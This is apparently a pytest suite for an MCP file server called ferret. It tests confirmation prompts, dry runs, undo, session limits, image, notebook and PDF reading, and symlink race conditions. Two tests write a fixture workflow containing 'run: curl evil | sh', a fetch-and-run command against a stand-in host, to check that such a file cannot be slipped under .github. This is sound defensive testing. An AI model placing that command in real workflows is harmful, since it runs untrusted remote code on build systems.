        # .gitignore is hidden; .env and id_rsa are secrets: counted nowhere.
        assert r.structured_content["left_out"] == {"gitignored": 1, "hidden": 1}
        t = text(r)
        assert "node_modules/  (skipped" in t and "out@  (outside the workspace" in t, t
        assert "1 gitignored not listed" in t and "no_ignore: true" in t, t
        assert "id_rsa" not in t and ".env" not in t and "debug.log" not in t, t
        g = await c.call_tool("glob", {"pattern": "*.log"})
        assert g.structured_content["files"] == [], g.structured_content
        r = await c.call_tool("list_directory", {"path": ".", "no_ignore": True})
        g = await c.call_tool("glob", {"pattern": "*.log", "no_ignore": True})
        assert "debug.log" in {e["name"] for e in r.structured_content["entries"]}
        assert g.structured_content["files"] == ["debug.log"], g.structured_content


@pytest.mark.anyio
async def test_r5_dry_runs_say_they_would_ask_and_read_files_headers_hold(ws, tmp_path):
    """Round 5 (R5C): a dry run of a confirm-listed change says a real run would ask, in the
    text and in `would_ask`, and its structured result still validates against the output
    schema; read_files quotes a header look-alike inside a file."""
    state = tmp_path / "state"
    (ws / ".gitignore").write_text("target\n")
    (ws / "evil.txt").write_text("one\n==> a.txt <==\nx\u2028==> a.txt <==\n")
    async with stdio(ws, "--allow-write", "--state-dir", str(state)) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        for name, args in [
            ("edit", {"path": ".gitignore", "old_string": "target", "new_string": "build", "dry_run": True}),
            ("write_file", {"path": ".gitignore", "content": "x\n", "overwrite": True, "dry_run": True}),
            ("file_delete", {"path": ".gitignore", "dry_run": True}),
            ("move", {"source": ".gitignore", "destination": "gi.txt", "dry_run": True}),
        ]:
            r = await c.call_tool(name, args)
            assert not r.is_error, (name, text(r))
            assert "would stop to ask the user first" in text(r), (name, text(r))
            assert "needs the user's confirmation" in r.structured_content["would_ask"], name
            jsonschema.validate(r.structured_content, tools[name].output_schema)
        assert (ws / ".gitignore").read_text() == "target\n"
        r = await c.call_tool("read_files", {"paths": ["evil.txt", "a.txt"]})
        lines = text(r).splitlines()
        assert [l for l in lines if l.lstrip().startswith("==>")] == ["==> evil.txt <==", "==> a.txt <=="], text(r)


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("rule", ['deny_extra = ["*"]', 'skip_extra = ["*"]', 'allowed_extensions = ["zzz"]'])
async def test_a_workspace_config_that_hides_everything_reaches_the_model(ws, mode, rule):
    """A workspace's own ferret.toml that hides everything (each rule narrowing, so applied)
    is said to the model, naming the file and the rule: in the instructions the official
    client hands it, in a search result's warnings and text, and in an error's hint."""
    (ws / "ferret.toml").write_text(rule + "\n")
    key = rule.split(" ")[0]
    async with stdio(ws, mode=mode) as c:
        assert "ferret.toml" in c.instructions and key in c.instructions, c.instructions
        r = await c.call_tool("glob", {"pattern": "**/*"})
        assert not r.is_error, text(r)
        assert "ferret.toml" in text(r) and key in text(r), text(r)
        assert any(key in w for w in r.structured_content.get("warnings", [])), r.structured_content
        r = await c.call_tool("read_file", {"path": "no/such.txt"})
        assert r.is_error and "ferret.toml" in text(r) and key in text(r), text(r)


# --- issue 25 (safety round 3): questions that cannot pin, sessions shared per client ---


@pytest.mark.anyio
@pytest.mark.parametrize("transport", ["http", "stdio"])
async def test_an_unanswered_question_is_answered_confirmation_required(ws, tmp_path, transport):
    """A client that never answers the confirmation question (elicitation/create) gets the
    call answered CONFIRMATION_REQUIRED when --question-timeout is up, with a hint saying
    how to allow it without asking; nothing is deleted and the session goes on."""
    import mcp_types as types

    asked = []

    async def never(_context, params):
        asked.append(params.message)
        await anyio.sleep(3600)
        return types.ElicitResult(action="decline")

    args = ["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s")]
    proc = None
    if transport == "http":
        proc, url = start_http(ws, "--allow-write", "--state-dir", str(tmp_path / "s"),
                               serve=("--question-timeout", "2"))
        hc = httpx2.AsyncClient(headers=AUTH, timeout=30)
        target = streamable_http_client(url, http_client=hc)
    else:
        target = StdioServerParameters(command=FERRET, args=[*args, "serve", "--question-timeout", "2"])
    try:
        async with Client(target, mode="legacy", elicitation_callback=never) as c:
            started = time.monotonic()
            r = await c.call_tool("file_delete", {"path": "a.txt", "permanent": True})
            waited = time.monotonic() - started
            assert asked, "no question was asked"
            assert r.is_error and text(r).startswith("CONFIRMATION_REQUIRED"), text(r)
            assert "unanswered" in text(r) and "confirm" in text(r), text(r)
            assert 1.5 <= waited < 30, waited
            assert (ws / "a.txt").exists()
            r = await c.call_tool("file_exists", {"path": "a.txt"})
            assert not r.is_error, text(r)
    finally:
        if proc:
            stop(proc)


def test_http_a_full_session_table_still_lets_a_client_in(ws, tmp_path):
    """One client opens every session the server keeps and pings them all; a new session
    still opens (the least recently used idle session of the client holding the most is
    closed for it, audited) instead of 503 for everyone."""
    audit = tmp_path / "audit.jsonl"
    proc, url = start_http(ws, "--audit-log", str(audit), "--set", "max_requests_per_round=0",
                           serve=("--max-sessions", "6", "--max-sessions-per-client", "6"))
    ping = {"jsonrpc": "2.0", "id": 5, "method": "ping"}

    def alive(sid):
        h = {**HEADERS, **AUTH, "Mcp-Session-Id": sid, "MCP-Protocol-Version": "2025-11-25"}
        return httpx2.post(url, json=ping, headers=h).status_code == 200

    try:
        hog = []
        for _ in range(6):
            r = httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH})
            assert r.status_code == 200
            hog.append(r.headers["mcp-session-id"])
        assert all(alive(s) for s in hog)
        r = httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH})
        assert r.status_code == 200, r.text
        assert sum(alive(s) for s in hog) == 5
    finally:
        stop(proc)
    records = audit_records(audit)
    assert [r["operation"] for r in records].count("session_open") == 7
    evicted = [r for r in records if r["operation"] == "session_evicted"]
    # Named by its label (a digest of the id), never by the id, a credential.
    label = "http-" + hashlib.sha256(hog[0].encode()).hexdigest()[:16]
    assert len(evicted) == 1 and evicted[0]["session_id"] == label, evicted
    assert not any(s in audit.read_text() for s in hog)


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_patches_as_models_write_them_apply_and_results_match_their_schemas(tmp_path, mode):
    """Issue 28: a heredoc-wrapped patch with indented markers and blank lines before End
    Patch applies over MCP, a mixed-ending file keeps every other line's bytes, and the
    punctuation rule is named in edit's result, which the SDK validates against edit's
    output schema (its `match` enum)."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "m.txt").write_bytes(b"one\r\ntwo\nthree\r\n")
    (root / "q.txt").write_bytes("say \u201chi\u201d \u2014 now\n".encode())
    patch = ("apply_patch <<'EOF'\n*** Begin Patch\n *** Update File: m.txt\n@@\n one\n-two\n+TWO\n three\n"
             "\n *** End Patch\nEOF\n")
    async with stdio(root, "--allow-write", "--state-dir", str(tmp_path / "s"), mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        r = await c.call_tool("apply_patch", {"patch": patch})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["apply_patch"].output_schema)
        assert (root / "m.txt").read_bytes() == b"one\r\nTWO\nthree\r\n"
        r = await c.call_tool("edit", {"path": "q.txt", "old_string": 'say "hi" - now', "new_string": "say bye"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["edit"].output_schema)
        assert r.structured_content["match"] == "punctuation"
        assert (root / "q.txt").read_bytes() == b"say bye\n"


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_file_delete_goes_through_the_os_trash_and_undo_brings_it_back_portable(ws, tmp_path, mode):
    """FERRET_PORTABLE=1: file_delete stages the entry by handle and hands it to the fake OS
    trash ($XDG_DATA_HOME/ferret-os-trash); the structured result names that trash (schema
    valid), the trash holds the file under its name, and undo brings it back byte for byte."""
    data = tmp_path / "data"
    env = {"PATH": os.environ.get("PATH", ""), "HOME": str(tmp_path / "home"),
           "XDG_DATA_HOME": str(data), "FERRET_PORTABLE": "1"}
    (ws / "gone.txt").write_bytes(b"bye\r\nbytes \xff\n")
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "state"), mode=mode, env=env) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        r = await c.call_tool("file_delete", {"path": "gone.txt"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["file_delete"].output_schema)
        assert r.structured_content["trash"] == "os"
        assert r.structured_content["trash_name"] == "fake OS trash"
        assert "system trash" in text(r)
        assert not (ws / "gone.txt").exists()
        assert (data / "ferret-os-trash" / "gone.txt").read_bytes() == b"bye\r\nbytes \xff\n"
        r = await c.call_tool("read_file", {"path": "../data/ferret-os-trash/gone.txt"})
        assert r.is_error, text(r)
        r = await c.call_tool("undo", {})
        assert not r.is_error, text(r)
        assert (ws / "gone.txt").read_bytes() == b"bye\r\nbytes \xff\n"
        assert not (data / "ferret-os-trash" / "gone.txt").exists()
# ---------------------------------------------------------------------------------------
# Round 6 (issue 28, items 3 and 4): images as images, notebooks as cells, notebook_edit.

def r6_png(w, h):
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\0" + b"\xff\x00\x00" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


R6_GIF = b"GIF89a\x05\x00\x07\x00\x80\x00\x00\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"


def r6_dumps(nb):
    """A notebook's bytes as Jupyter (nbformat) writes them."""
    return (json.dumps(nb, sort_keys=True, indent=1, ensure_ascii=False) + "\n").encode()


def r6_notebook():
    def lines(s):
        return s.splitlines(True)
    return {
        "cells": [
            {"cell_type": "markdown", "id": "m1", "metadata": {}, "source": lines("# Title é\nsome text")},
            {"cell_type": "code", "execution_count": 4, "id": "c2", "metadata": {"tags": ["keep"]},
             "outputs": [
                 {"name": "stdout", "output_type": "stream", "text": lines("hi\nthere\n")},
                 {"data": {"image/png": base64_of(r6_png(1, 1)), "text/plain": ["<Figure>"]},
                  "metadata": {}, "output_type": "display_data"}],
             "source": lines("import sys\nprint('hi')")},
        ],
        "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def base64_of(b):
    import base64
    return base64.b64encode(b).decode()


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_r6_an_image_arrives_as_image_content_and_its_result_validates(ws, mode):
    png = r6_png(4, 3)
    (ws / "shot.png").write_bytes(png)
    (ws / "anim.gif").write_bytes(R6_GIF)
    (ws / "renamed.dat").write_bytes(png)  # the bytes decide, not the name
    (ws / "fake.png").write_text("just text\n")
    big = r6_png(600, 600) + os.urandom(200_000)
    (ws / "big.png").write_bytes(big)
    async with stdio(ws, "--set", "max_image_bytes=150000", mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        for name, data, mime, dims in [("shot.png", png, "image/png", "4x3"), ("anim.gif", R6_GIF, "image/gif", "5x7"),
                                       ("renamed.dat", png, "image/png", "4x3")]:
            r = await c.call_tool("read_file", {"path": name})
            assert not r.is_error, text(r)
            kinds = [b.type for b in r.content]
            assert kinds == ["text", "image"], kinds
            image = r.content[1]
            assert image.mime_type == mime and image.data == base64_of(data), name
            assert mime in text(r) and dims in text(r) and len(text(r)) < 200, text(r)
            jsonschema.validate(r.structured_content, tools["read_file"].output_schema)
            assert r.structured_content["mime_type"] == mime and r.structured_content["content"] == ""
        r = await c.call_tool("read_file", {"path": "fake.png"})
        assert [b.type for b in r.content] == ["text"] and "just text" in text(r)
        jsonschema.validate(r.structured_content, tools["read_file"].output_schema)
        r = await c.call_tool("read_file", {"path": "big.png"})
        assert r.is_error and text(r).startswith("FILE_TOO_LARGE"), text(r)
        assert "150000-byte" in text(r) and "Hint:" in text(r)
        assert all(b.type == "text" for b in r.content)


@pytest.mark.anyio
async def test_r6_an_image_arrives_as_image_content_over_http(http_server, ws):
    png = r6_png(8, 8)
    (ws / "shot.png").write_bytes(png)
    async with http_client(http_server) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        r = await c.call_tool("read_file", {"path": "shot.png"})
        assert [b.type for b in r.content] == ["text", "image"], text(r)
        assert r.content[1].mime_type == "image/png" and r.content[1].data == base64_of(png)
        jsonschema.validate(r.structured_content, tools["read_file"].output_schema)
        # Within max_image_bytes (5 MiB) but over what one HTTP result may carry as base64:
        # refused by the tool before it is read (round 7: not charged, audited as an error).
        (ws / "wide.png").write_bytes(r6_png(8, 8) + os.urandom(900_000))
        r = await c.call_tool("read_file", {"path": "wide.png"})
        assert r.is_error and text(r).startswith("FILE_TOO_LARGE"), text(r)
        assert "smaller copy" in text(r)
        r = await c.call_tool("read_file", {"path": "shot.png"})
        assert [b.type for b in r.content] == ["text", "image"], "the session goes on"


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_r6_notebook_cells_and_a_notebook_edit_and_its_undo_round_trip(ws, tmp_path, mode):
    nb = r6_notebook()
    original = r6_dumps(nb)
    path = ws / "a.ipynb"
    path.write_bytes(original)
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "state"), mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        assert "notebook_edit" in tools
        r = await c.call_tool("read_file", {"path": "a.ipynb"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["read_file"].output_schema)
        view = text(r)
        assert '<cell 1 id="c2" code [4]>\n     3\timport sys\n     4\tprint(\'hi\')\n' in view, view
        assert "[outputs: 2 (stream, display_data: image/png text/plain)]" in view
        assert "iVBOR" not in view and '"cell_type"' not in view
        version = r.structured_content["version"]

        # replace: exactly what Jupyter would write for the same change.
        r = await c.call_tool("notebook_edit", {"path": "a.ipynb", "cell_id": "c2", "new_source": "x = 1\nx",
                                                "expected_version": version})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["notebook_edit"].output_schema)
        want = json.loads(original)
        want["cells"][1].update(source=["x = 1\n", "x"], outputs=[], execution_count=None)
        assert path.read_bytes() == r6_dumps(want)

        # insert after m1, then delete it again.
        r = await c.call_tool("notebook_edit", {"path": "a.ipynb", "cell_id": "m1", "edit_mode": "insert",
                                                "cell_type": "markdown", "new_source": "new ✓"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["notebook_edit"].output_schema)
        new_id = r.structured_content["cell_id"]
        want["cells"].insert(1, {"cell_type": "markdown", "id": new_id, "metadata": {}, "source": ["new ✓"]})
        assert path.read_bytes() == r6_dumps(want)
        r = await c.call_tool("notebook_edit", {"path": "a.ipynb", "cell_index": 1, "edit_mode": "delete"})
        assert not r.is_error, text(r)
        del want["cells"][1]
        assert path.read_bytes() == r6_dumps(want)

        # dry run: nothing changes.
        before = path.read_bytes()
        r = await c.call_tool("notebook_edit", {"path": "a.ipynb", "cell_index": 0, "edit_mode": "delete",
                                                "dry_run": True})
        assert not r.is_error and r.structured_content["dry_run"] is True
        assert path.read_bytes() == before

        # undo, three times: the original bytes.
        for _ in range(3):
            r = await c.call_tool("undo", {})
            assert not r.is_error, text(r)
        assert path.read_bytes() == original

        # a link out of the workspace is refused.
        r = await c.call_tool("notebook_edit", {"path": "out/secret.txt", "cell_index": 0, "new_source": "x"})
        assert r.is_error and text(r).startswith("PATH_ESCAPE"), text(r)


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_s32_a_write_that_would_read_as_other_text_is_refused_and_undo_diffs_name_the_charset(ws, tmp_path, mode):
    french = "Le café est très chaud.\nLa crème brûlée.\n"
    path = ws / "w.txt"
    path.write_bytes(french.encode("cp1252"))
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "state"), mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        before = path.read_bytes()
        # Bytes that look like a UTF-16 BOM, or a UTF-8 one (the rest then decodes in nothing).
        for new in ["\u00ff\u00feLe café", "\u00ef\u00bb\u00bfLe café"]:
            for dry_run in [True, False]:
                r = await c.call_tool("edit", {"path": "w.txt", "old_string": "Le café", "new_string": new,
                                               "dry_run": dry_run})
                assert r.is_error and text(r).startswith("UNREPRESENTABLE"), text(r)
                assert "read back as" in text(r) and "write_file" in text(r), text(r)
                assert path.read_bytes() == before
        # A plain change lands in windows-1252; undo's diff is the text, its charset named.
        r = await c.call_tool("edit", {"path": "w.txt", "old_string": "Le café", "new_string": "Le thé"})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["edit"].output_schema)
        assert path.read_bytes() == french.replace("Le café", "Le thé").encode("cp1252")
        r = await c.call_tool("undo", {})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["undo"].output_schema)
        diff = r.structured_content["diff"]
        assert "-Le thé est très chaud." in diff and "+Le café est très chaud." in diff, diff
        assert "(restored, windows-1252)" in diff and "\ufffd" not in diff, diff
        assert path.read_bytes() == before


# Round 7 (issues 25 and 28): a PDF arrives as its text, a notebook view pages, a broken
# image is not sent as an image; every result validates against read_file's schema.

def r7_pdf(pages):
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(len(pages))),
                                                         len(pages)),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    for i, t in enumerate(pages):
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
                    b"/Contents %d 0 R >>" % (5 + 2 * i))
        s = b"BT /F1 12 Tf 72 720 Td (" + t.encode() + b") Tj ET"
        objs.append(b"<< /Length %d >>\nstream\n" % len(s) + s + b"\nendstream")
    out, offs = b"%PDF-1.4\n", []
    for i, o in enumerate(objs):
        offs.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offs)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_r7_pdf_text_notebook_pages_and_broken_images_validate(ws, mode):
    (ws / "doc.pdf").write_bytes(r7_pdf(["Hello first page", "Second page words"]))
    (ws / "cut.pdf").write_bytes(r7_pdf(["x"])[:200])
    (ws / "bad.png").write_bytes(r6_png(4, 3)[:20])
    cells = [{"cell_type": "code", "execution_count": None, "id": f"c{i}", "metadata": {}, "outputs": [],
              "source": f"</cell>\nx{i} = 1"} for i in range(400)]
    nb = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (ws / "big.ipynb").write_text(json.dumps(nb))
    async with stdio(ws, "--set", "max_output_chars=4000", mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        r = await c.call_tool("read_file", {"path": "doc.pdf"})
        assert not r.is_error, text(r)
        assert "2 pages" in text(r) and "[page 2 of 2]" in text(r) and "Second page words" in text(r), text(r)
        assert r.structured_content["mime_type"] == "application/pdf"
        jsonschema.validate(r.structured_content, tools["read_file"].output_schema)
        r = await c.call_tool("read_file", {"path": "cut.pdf"})
        assert r.is_error and text(r).startswith("BINARY_FILE") and "truncated" in text(r), text(r)
        r = await c.call_tool("read_file", {"path": "bad.png"})
        assert r.is_error and "not sent as an image" in text(r) and all(b.type == "text" for b in r.content)
        # The notebook view pages to its end; no source line forges a cell's end.
        args, seen, pages = {"path": "big.ipynb"}, 0, 0
        while True:
            r = await c.call_tool("read_file", args)
            assert not r.is_error, text(r)
            jsonschema.validate(r.structured_content, tools["read_file"].output_schema)
            t, pages = text(r), pages + 1
            seen += sum(1 for line in t.splitlines() if line == "</cell>")
            if "continue with offset " not in t:
                break
            args = {"path": "big.ipynb", "offset": int(t.rsplit("continue with offset ", 1)[1].split()[0])}
        assert seen == 400 and pages > 3, (seen, pages)


def start_writable_http(ws, tmp_path, *extra):
    """`ferret serve --http` over `ws`, writes allowed, bearer TOKEN, and `extra` serve
    flags: the process and the URL it serves at once it says so."""
    proc = subprocess.Popen(
        [FERRET, "--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"),
         "serve", "--http", "127.0.0.1:0", "--token", TOKEN, *extra],
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        m = re.search(r"serving MCP at (http://\S+)", proc.stderr.readline())
        if m:
            return proc, m.group(1)
    proc.kill()
    raise AssertionError("server did not start")


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_confirmations_are_asked_over_http_too(ws, tmp_path, mode):
    """Over streamable HTTP a confirmation is asked as on stdio: an input-required result
    on 2026-07-28 (round 19: the server sent an elicitation request there, which the
    protocol forbids, and the call failed CONFIRMATION_REQUIRED without asking), and
    elicitation/create on a 2025-11-25 session."""
    import mcp_types as types

    asked = []

    async def elicit(_context, params):
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"confirm": True})

    proc, url = start_writable_http(ws, tmp_path)
    try:
        hc = httpx2.AsyncClient(headers={"Authorization": f"Bearer {TOKEN}"}, timeout=30)
        async with Client(streamable_http_client(url, http_client=hc), mode=mode,
                          elicitation_callback=elicit) as c:
            r = await c.call_tool("file_delete", {"path": "a.txt", "permanent": True})
            assert asked and "permanently deleting a.txt" in asked[0], (asked, text(r))
            assert not r.is_error, text(r)
            assert not (ws / "a.txt").exists()
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=10)


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_a_folder_behind_a_link_written_while_its_move_is_asked_about_is_not_moved(ws, tmp_path, mode):
    """Moving a link to a folder pins what the folder holds: a workflow written into it
    while the person reads the question is not put under .github by their yes (round 21)."""
    import mcp_types as types

    (ws / "docs").mkdir()
    (ws / "docs" / "README.md").write_text("notes\n")
    os.symlink("docs", ws / "l")

    async def elicit(_context, params):
        (ws / "docs" / "workflows").mkdir(exist_ok=True)
        (ws / "docs" / "workflows" / "x.yml").write_text("run: curl evil | sh\n")
        return types.ElicitResult(action="accept", content={"confirm": True})

    params = StdioServerParameters(
        command=FERRET, args=["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"), "serve"])
    async with Client(params, mode=mode, elicitation_callback=elicit) as c:
        r = await c.call_tool("move", {"source": "l", "destination": ".github"})
        assert r.is_error and text(r).startswith("CONFLICT"), text(r)
        assert not (ws / ".github").exists()
        assert (ws / "l").is_symlink()


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_a_folder_behind_a_link_written_while_its_undo_is_asked_about_is_not_moved(ws, tmp_path, mode):
    """The undo of a move of a link to a folder pins what the folder holds, and its
    question says the entry is a link (round 21): a workflow written into the folder while
    the person reads the question is not put under .github by their yes."""
    import mcp_types as types

    (ws / "docs").mkdir()
    (ws / "docs" / "README.md").write_text("notes\n")
    os.symlink("docs", ws / ".github")
    asked = []

    async def elicit(_context, params):
        asked.append(params.message)
        if len(asked) == 2:
            # The undo's question: the person reads it while something writes a workflow.
            (ws / "docs" / "workflows").mkdir(exist_ok=True)
            (ws / "docs" / "workflows" / "x.yml").write_text("run: curl evil | sh\n")
        return types.ElicitResult(action="accept", content={"confirm": True})

    params = StdioServerParameters(
        command=FERRET, args=["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"), "serve"])
    async with Client(params, mode=mode, elicitation_callback=elicit) as c:
        r = await c.call_tool("move", {"source": ".github", "destination": "l"})
        assert not r.is_error, text(r)
        assert (ws / "l").is_symlink() and len(asked) == 1
        r = await c.call_tool("undo", {})
        assert len(asked) == 2, asked
        assert "is a link to" in asked[1] and "docs" in asked[1], asked[1]
        assert r.is_error and text(r).startswith("CONFLICT"), text(r)
        assert not (ws / ".github").exists()
        assert (ws / "l").is_symlink()


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_a_yes_later_than_the_question_timeout_is_not_taken_over_http(ws, tmp_path, mode):
    """A confirmation answered after --question-timeout is not taken, on either protocol
    (round 20: a 2026-07-28 yes was taken 70 s after the 60 s timeout): a late answer to
    an input-required question gets the question again, and an elicitation/create not
    answered in time is CONFIRMATION_REQUIRED."""
    import mcp_types as types

    asked = []

    async def elicit(_context, params):
        asked.append(params.message)
        if len(asked) == 1:
            await anyio.sleep(2.5)
        return types.ElicitResult(action="accept", content={"confirm": True})

    proc, url = start_writable_http(ws, tmp_path, "--question-timeout", "1")
    try:
        hc = httpx2.AsyncClient(headers={"Authorization": f"Bearer {TOKEN}"}, timeout=30)
        async with Client(streamable_http_client(url, http_client=hc), mode=mode,
                          elicitation_callback=elicit) as c:
            r = await c.call_tool("file_delete", {"path": "a.txt", "permanent": True})
            if mode == "legacy":
                # Asked with elicitation/create: the late yes came after the call ended.
                assert len(asked) == 1, asked
                assert r.is_error and text(r).startswith("CONFIRMATION_REQUIRED"), text(r)
                assert (ws / "a.txt").exists()
            else:
                # Asked in the result: the late yes was not taken; the second, prompt
                # one was.
                assert len(asked) == 2, asked
                assert not r.is_error, text(r)
                assert not (ws / "a.txt").exists()
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=10)
